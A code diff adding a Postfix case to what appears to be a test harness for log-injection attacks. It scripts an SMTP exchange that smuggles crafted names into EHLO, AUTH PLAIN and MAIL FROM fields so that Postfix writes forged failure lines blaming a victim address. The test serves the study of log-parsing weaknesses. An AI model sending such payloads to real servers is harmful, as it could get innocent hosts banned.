@@ -73,6 +73,24 @@ public sealed record Attack(DaemonRecipe Recipe, Func<string, string, IReadOnlyL
             "LOG:  connection received: host=VICTIM port=4711"
         );
 
+    internal static Attack Postfix { get; } =
+        new(
+            DaemonRecipes.Postfix,
+            (name, victim) =>
+                [
+                    new("220", $"EHLO [{victim}]{name}\r\n"),
+                    new("\r\n", "HELO x\r\n"),
+                    new("250 mail", $"AUTH PLAIN {Convert.ToBase64String(Encoding.Latin1.GetBytes($"\0{name}\0guess"))}\r\n"),
+                    new("\r\n", $"MAIL FROM:<\"{name}\"@[{victim}]>\r\n"),
+                    new("\r\n", "RCPT TO:<somebody@elsewhere.example>\r\n"),
+                    new("\r\n", "QUIT\r\n"),
+                    new("221", ""),
+                ],
+            "x]: SASL LOGIN authentication failed: y, unknown[VICTIM]: SASL LOGIN authentication failed",
+            "x>: Relay access denied; from unknown[VICTIM]: 554 5.7.1 <y",
+            "unknown[VICTIM]"
+        );
+
     internal static Attack Redis { get; } =
         new(
             DaemonRecipes.Redis,
